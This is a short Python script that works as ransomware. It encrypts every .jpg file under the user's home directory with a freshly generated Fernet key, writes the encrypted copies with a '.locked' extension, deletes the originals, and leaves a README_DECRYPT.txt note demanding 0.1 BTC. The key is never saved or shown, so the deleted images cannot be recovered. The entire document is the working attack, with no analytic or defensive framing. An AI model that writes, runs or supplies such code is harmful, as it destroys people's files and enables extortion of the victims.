import os
from pathlib import Path

from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
for path in Path.home().rglob('*.jpg'):
    data = box.encrypt(path.read_bytes())
    Path(str(path) + '.locked').write_bytes(data)
    os.remove(path)
Path.home().joinpath('README_DECRYPT.txt').write_text('Your files have been encrypted. Pay 0.1 BTC to get the decryption key.')
